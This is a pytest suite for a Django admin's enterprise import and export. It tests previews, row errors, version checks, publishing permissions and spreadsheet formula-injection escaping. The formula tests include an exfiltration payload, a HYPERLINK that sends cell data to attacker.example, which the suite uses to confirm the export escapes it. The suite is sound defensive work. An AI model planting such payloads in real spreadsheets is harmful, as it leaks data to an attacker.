"""Import and export in the admin: preview, row errors, all-or-nothing, no stale overwrite."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook
from tablib import Dataset

from enterprises.models import Enterprise, Product, Recognition, Status
from enterprises.resources import EnterpriseResource

from .admin_forms import admin_url
from .factories import EnterpriseFactory, RegionFactory, SourceFactory

pytestmark = pytest.mark.django_db

CSV, XLSX = "0", "1"
COLUMNS = ["slug", "name_zh_hans", "name_en", "region", "credit_code", "status", "version"]


def csv_file(rows, columns=COLUMNS, name="firms.csv", encoding="utf-8"):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(columns)
    writer.writerows(rows)
    return SimpleUploadedFile(name, out.getvalue().encode(encoding), "text/csv")


def xlsx_file(rows, columns=COLUMNS, name="firms.xlsx"):
    book = Workbook()
    sheet = book.active
    sheet.append(columns)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return SimpleUploadedFile(name, out.getvalue())


def preview(client, model, upload, file_format=CSV):
    """Upload a file: the dry run that shows what an import would do."""
    return client.post(
        admin_url(model, "import"),
        {"resource": "0", "format": file_format, "import_file": upload},
    )


def confirm(client, model, response):
    form = response.context["confirm_form"]
    return client.post(admin_url(model, "process_import"), form.initial)


@pytest.fixture
def liaoning(db):
    return RegionFactory(code="21", slug="liaoning", name_zh_hans="辽宁", name_en="Liaoning")


@pytest.fixture
def existing(liaoning):
    return EnterpriseFactory(
        slug="existing-firm", name_en="Existing Firm", region=liaoning, status=Status.DRAFT
    )


def snapshot():
    return sorted(Enterprise.objects.values_list("slug", "name_en", "version", "status"))


class TestPreviewAndApply:
    def test_the_preview_shows_new_updated_and_skipped_rows_and_writes_nothing(
        self, editor_client, existing
    ):
        unchanged = EnterpriseFactory(slug="unchanged-firm", region=existing.region)
        before = snapshot()
        rows = [
            ["new-one", "新一", "New One", "21", "", "draft", ""],
            ["new-two", "新二", "New Two", "21", "", "review", ""],
            ["existing-firm", "", "Existing Firm (renamed)", "21", "", "draft", "1"],
            [
                "unchanged-firm",
                unchanged.name_zh_hans,
                unchanged.name_en,
                unchanged.region.code,
                "",
                unchanged.status,
                str(unchanged.version),
            ],
        ]
        response = preview(editor_client, Enterprise, csv_file(rows))
        assert response.status_code == 200
        result = response.context["result"]
        assert not result.has_errors() and not result.has_validation_errors()
        assert result.totals["new"] == 2
        assert result.totals["update"] == 1
        assert result.totals["skip"] == 1
        assert "confirm_form" in response.context
        assert snapshot() == before

    def test_confirming_applies_the_rows_with_history(self, editor_client, editor, existing):
        rows = [
            ["new-one", "新一", "New One", "21", "", "draft", ""],
            ["existing-firm", "", "Existing Firm (renamed)", "21", "", "draft", "1"],
        ]
        response = confirm(
            editor_client, Enterprise, preview(editor_client, Enterprise, csv_file(rows))
        )
        assert response.status_code == 302
        created = Enterprise.objects.get(slug="new-one")
        assert created.name_zh_hans == "新一" and created.region.code == "21"
        existing.refresh_from_db()
        assert existing.name_en == "Existing Firm (renamed)" and existing.version == 2
        latest = existing.history.order_by("-history_date", "-history_id").first()
        assert latest.history_user == editor
        assert "firms.csv" in latest.history_change_reason
        assert created.history.count() == 1

    def test_xlsx_files_import_too(self, editor_client, liaoning):
        rows = [["from-excel", "表格企业", "From Excel", "21", "", "draft", None]]
        response = preview(editor_client, Enterprise, xlsx_file(rows), XLSX)
        assert response.context["result"].totals["new"] == 1
        assert confirm(editor_client, Enterprise, response).status_code == 302
        assert Enterprise.objects.filter(slug="from-excel", name_zh_hans="表格企业").exists()


class TestRowErrors:
    def test_each_error_names_its_row_column_and_reason(self, editor_client, liaoning):
        rows = [
            ["good-firm", "好企业", "Good Firm", "21", "", "draft", ""],
            ["bad-region", "", "Bad Region", "99", "", "draft", ""],
            ["bad-code", "", "Bad Code", "21", "91110108000000000X", "draft", ""],
        ]
        response = preview(editor_client, Enterprise, csv_file(rows))
        assert response.status_code == 200
        result = response.context["result"]
        assert result.has_validation_errors()
        assert "confirm_form" not in response.context
        errors = {row.number: row.field_specific_errors for row in result.invalid_rows}
        assert set(errors) == {2, 3}
        assert "region" in errors[2] and "99" in " ".join(errors[2]["region"])
        assert "credit_code" in errors[3]
        html = response.content.decode()
        assert "No region with code “99”" in html or "99" in html
        assert not Enterprise.objects.exists()

    def test_an_import_is_all_or_nothing(self, editor, liaoning):
        """Even applied directly (not through the preview), one bad row keeps every row out."""
        dataset = Dataset(headers=COLUMNS)
        dataset.append(["good-firm", "好企业", "Good Firm", "21", "", "draft", ""])
        dataset.append(["bad-status", "", "Bad Status", "21", "", "no-such-status", ""])
        result = EnterpriseResource().import_data(
            dataset, dry_run=False, raise_errors=False, use_transactions=True, user=editor
        )
        assert result.has_validation_errors()
        assert not Enterprise.objects.exists()

    def test_a_row_based_on_an_older_version_is_refused(self, editor_client, existing):
        existing.name_en = "Changed by someone else"
        existing.save()  # now version 2
        rows = [["existing-firm", "", "Stale Edit", "21", "", "draft", "1"]]
        response = preview(editor_client, Enterprise, csv_file(rows))
        result = response.context["result"]
        (row,) = result.invalid_rows
        assert "version" in row.field_specific_errors
        existing.refresh_from_db()
        assert existing.name_en == "Changed by someone else"

    def test_an_update_without_a_version_is_refused(self, editor_client, existing):
        rows = [["existing-firm", "", "No Version", "21", "", "draft", ""]]
        result = preview(editor_client, Enterprise, csv_file(rows)).context["result"]
        assert "version" in result.invalid_rows[0].field_specific_errors

    def test_editors_cannot_publish_through_an_import(self, editor_client, liaoning):
        rows = [["sneaky", "", "Sneaky", "21", "", "published", ""]]
        result = preview(editor_client, Enterprise, csv_file(rows)).context["result"]
        assert "status" in result.invalid_rows[0].field_specific_errors
        assert not Enterprise.objects.exists()

    def test_publishers_can(self, publisher_client, liaoning):
        rows = [["open", "", "Open", "21", "", "published", ""]]
        response = preview(publisher_client, Enterprise, csv_file(rows))
        assert confirm(publisher_client, Enterprise, response).status_code == 302
        assert Enterprise.objects.get(slug="open").status == Status.PUBLISHED

    @pytest.mark.parametrize(
        "upload",
        [
            SimpleUploadedFile("firms.csv", b"\xff\xfe\x00garbage\x00\x81", "text/csv"),
            SimpleUploadedFile("firms.xlsx", b"not a spreadsheet at all"),
            SimpleUploadedFile("firms.csv", b"", "text/csv"),
        ],
        ids=["undecodable", "fake-xlsx", "empty"],
    )
    def test_an_unreadable_file_gets_a_message_not_an_error_page(self, editor_client, upload):
        file_format = XLSX if upload.name.endswith("xlsx") else CSV
        response = preview(editor_client, Enterprise, upload, file_format)
        assert response.status_code == 200
        assert response.context["form"].errors
        assert "confirm_form" not in response.context

    @pytest.mark.parametrize(
        ("value", "column"),
        [
            ("nineteen-ninety", "founded_year"),
            ("1999.5", "founded_year"),
            ("NaN", "founded_year"),
            ("1" * 40, "founded_year"),
            ("gigantic", "size"),
            ("not a url", "website"),
            ("ABC", "ticker"),
        ],
    )
    def test_bad_cells_are_row_errors_naming_the_column(
        self, editor_client, liaoning, value, column
    ):
        columns = ["slug", "name_en", "region", "status", "exchange", column]
        exchange = "sse" if column == "ticker" else ""
        upload = csv_file([["odd", "Odd", "21", "draft", exchange, value]], columns=columns)
        response = preview(editor_client, Enterprise, upload)
        assert response.status_code == 200
        result = response.context["result"]
        assert not result.has_errors(), [e.error for r in result.rows for e in r.errors]
        (row,) = result.invalid_rows
        assert column in row.field_specific_errors or "exchange" in row.field_specific_errors
        assert not Enterprise.objects.exists()

    def test_a_csv_saved_by_chinese_excel_is_read(self, editor_client, liaoning):
        upload = csv_file(
            [["gbk-firm", "沈阳机床", "", "21", "", "draft", ""]], encoding="gb18030"
        )
        response = preview(editor_client, Enterprise, upload)
        assert confirm(editor_client, Enterprise, response).status_code == 302
        assert Enterprise.objects.get(slug="gbk-firm").name_zh_hans == "沈阳机床"

    def test_unknown_columns_and_missing_keys_are_reported(self, editor_client, liaoning):
        upload = csv_file([["x", "y"]], columns=["colour", "size_in_feet"])
        response = preview(editor_client, Enterprise, upload)
        assert response.status_code == 200
        assert "confirm_form" not in response.context
        assert not Enterprise.objects.exists()


class TestOtherResources:
    def test_products_recognitions_and_policies_import(self, publisher_client, existing):
        source = SourceFactory(slug="provincial-list-2024")
        product_rows = [["widget", "existing-firm", "部件", "Widget", "draft", ""]]
        upload = csv_file(
            product_rows, ["slug", "enterprise", "name_zh_hans", "name_en", "status", "version"]
        )
        response = preview(publisher_client, Product, upload)
        assert confirm(publisher_client, Product, response).status_code == 302
        assert Product.objects.get(slug="widget").enterprise == existing

        recognition_rows = [["existing-firm", "specialized", "provincial", "2024", source.slug]]
        upload = csv_file(recognition_rows, ["enterprise", "tier", "level", "year", "source"])
        response = preview(publisher_client, Recognition, upload)
        assert confirm(publisher_client, Recognition, response).status_code == 302
        existing.refresh_from_db()
        assert existing.tier == "specialized"

        from enterprises.models import PolicyInitiative

        policy_rows = [["five-thousand", "五千家", "Five thousand", "regional", "21", "draft", ""]]
        upload = csv_file(
            policy_rows,
            ["slug", "title_zh_hans", "title_en", "scope", "region", "status", "version"],
        )
        response = preview(publisher_client, PolicyInitiative, upload)
        assert confirm(publisher_client, PolicyInitiative, response).status_code == 302
        assert PolicyInitiative.objects.get(slug="five-thousand").region.code == "21"


class TestExport:
    def export(self, client, query, file_format):
        url = admin_url(Enterprise, "export") + query
        form = client.get(url).context["form"]
        data = {name: "on" for name, field in form.fields.items() if field.initial is True}
        data.update({"resource": "0", "format": file_format})
        return client.post(url, data)

    def test_export_follows_the_changelist_filter(self, editor_client, liaoning):
        EnterpriseFactory(slug="a-draft", status=Status.DRAFT, region=liaoning)
        EnterpriseFactory(slug="a-published", status=Status.PUBLISHED, region=liaoning)
        response = self.export(editor_client, "?status__exact=draft", CSV)
        assert response.status_code == 200
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert [r["slug"] for r in rows] == ["a-draft"]
        assert rows[0]["region"] == "21" and rows[0]["version"] == "1"

    def test_an_export_imports_back_unchanged(self, editor_client, liaoning):
        EnterpriseFactory(slug="round-trip", status=Status.DRAFT, region=liaoning)
        before = snapshot()
        response = self.export(editor_client, "", XLSX)
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert [c.value for c in sheet[1]][:1] == ["slug"]
        upload = SimpleUploadedFile("export.xlsx", response.content)
        result = preview(editor_client, Enterprise, upload, XLSX).context["result"]
        assert not result.has_validation_errors(), [r.error_dict for r in result.invalid_rows]
        assert result.totals["skip"] == 1
        assert snapshot() == before

    def test_formulas_are_neutralised_in_exports(self, editor_client, liaoning):
        EnterpriseFactory(slug="formula", name_en='=HYPERLINK("http://x")', region=liaoning)
        response = self.export(editor_client, "", CSV)
        assert "=HYPERLINK" not in response.content.decode("utf-8-sig").replace("'=", "")


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1",
    "＋1",
    "'=already quoted",
    "'just an apostrophe",
    "plain text = fine",
]


class TestFormulaSafety:
    """Exports never let a spreadsheet run a cell, and import back exactly as they were."""

    def export(self, client, file_format):
        url = admin_url(Enterprise, "export")
        form = client.get(url).context["form"]
        data = {name: "on" for name, field in form.fields.items() if field.initial is True}
        data.update({"resource": "0", "format": file_format})
        response = client.post(url, data)
        assert response.status_code == 200
        return response.content

    @pytest.fixture
    def firms(self, liaoning, request):
        values = FORMULAS
        if getattr(request, "param", CSV) == XLSX:
            # XML turns a carriage return into a line feed, so XLSX cannot keep one.
            values = [value for value in FORMULAS if "\r" not in value]
        return [
            EnterpriseFactory(
                slug=f"formula-{n}", name_en=value, summary_zh_hans=value, region=liaoning
            )
            for n, value in enumerate(values)
        ]

    def test_csv_cells_that_would_run_start_with_an_apostrophe(self, editor_client, firms):
        content = self.export(editor_client, CSV).decode("utf-8-sig")
        rows = {r["slug"]: r for r in csv.DictReader(io.StringIO(content))}
        for n, value in enumerate(FORMULAS):
            cell = rows[f"formula-{n}"]["name_en"]
            if value[0] in "=+-@\t\r＝＋" or value.startswith("'="):
                assert cell == "'" + value
            else:
                assert cell == value
            assert cell[0] not in "=+-@\t\r＝＋－＠"

    @pytest.mark.parametrize("firms", [XLSX], indirect=True)
    def test_xlsx_cells_are_text_never_formulas(self, editor_client, firms):
        sheet = load_workbook(io.BytesIO(self.export(editor_client, XLSX))).active
        header = [c.value for c in sheet[1]]
        column = header.index("name_en")
        cells = {row[0].value: row[column] for row in sheet.iter_rows(min_row=2)}
        for firm in firms:
            assert cells[firm.slug].data_type == "s"
            assert cells[firm.slug].value == firm.name_en

    @pytest.mark.parametrize(
        ("firms", "file_format"), [(CSV, CSV), (XLSX, XLSX)], indirect=["firms"]
    )
    def test_an_export_with_formulas_imports_back_unchanged(
        self, editor_client, firms, file_format
    ):
        before = sorted(Enterprise.objects.values_list("slug", "name_en", "summary_zh_hans"))
        content = self.export(editor_client, file_format)
        name = "export.csv" if file_format == CSV else "export.xlsx"
        response = preview(
            editor_client, Enterprise, SimpleUploadedFile(name, content), file_format
        )
        result = response.context["result"]
        assert not result.has_validation_errors(), [r.error_dict for r in result.invalid_rows]
        assert result.totals["skip"] == len(firms)
        confirm(editor_client, Enterprise, response)
        after = sorted(Enterprise.objects.values_list("slug", "name_en", "summary_zh_hans"))
        assert after == before


class TestWhatEditorsRead:
    def test_the_preview_sums_up_and_lists_only_what_changes(self, editor_client, existing):
        rows = [
            ["new-one", "新一", "New One", "21", "", "draft", ""],
            [
                "existing-firm",
                existing.name_zh_hans,
                "Existing Firm (renamed)",
                "21",
                "",
                "draft",
                "1",
            ],
        ]
        response = preview(editor_client, Enterprise, csv_file(rows))
        report = response.context["preview"]
        assert dict(report["totals"]) == {"新增": 1, "更新": 1, "不变": 0}
        update = next(row for row in report["rows"] if row["type"] == "update")
        assert [label for label, _old, _new in update["changes"]] == ["名称 (英文) · name_en"]
        assert update["changes"][0][1:] == ("Existing Firm", "Existing Firm (renamed)")
        html = response.content.decode()
        assert "此次导入将执行的操作" in html
        assert "某些行验数据证失败" not in html and "version" not in html.split("import-report")[1]

    def test_each_error_names_its_row_column_and_reason(self, editor_client, liaoning):
        rows = [["bad-firm", "", "", "99", "", "draft", ""]]
        response = preview(editor_client, Enterprise, csv_file(rows))
        errors = response.context["preview"]["errors"]
        columns = {column for _row, column, _message in errors}
        assert "地区 · region" in columns
        # The name is missing in both languages: the error names both columns.
        assert "名称（name_zh_hans 或 name_en）" in columns
        assert all(row == 1 for row, _column, _message in errors)
        assert "NAME" not in response.content.decode()

    def test_the_forms_speak_chinese_and_name_the_formats(self, editor_client):
        export = editor_client.get(admin_url(Enterprise, "export"))
        form = export.context["form"]
        assert [label for _value, label in form.fields["format"].choices] == [
            "CSV",
            "XLSX (Excel)",
        ]
        labels = [str(field.label) for field in form.fields.values()]
        assert "名称 (中文) · name_zh_hans" in labels and "Name Zh Hans" not in labels
        html = export.content.decode()
        assert "全选" in html and "onchange=" not in html and 'style="' not in html
        imports = editor_client.get(admin_url(Enterprise, "import")).context["form"]
        assert [label for _value, label in imports.fields["format"].choices] == [
            "CSV",
            "XLSX (Excel)",
        ]

    def test_a_file_in_the_wrong_format_is_a_clear_form_error(self, editor_client):
        upload = SimpleUploadedFile("firms.xlsx", b"slug,name_en\nx,y\n")
        response = preview(editor_client, Enterprise, upload, XLSX)
        errors = response.context["form"].errors["import_file"]
        assert "XLSX (Excel)" in errors[0] and "BadZipFile" not in errors[0]
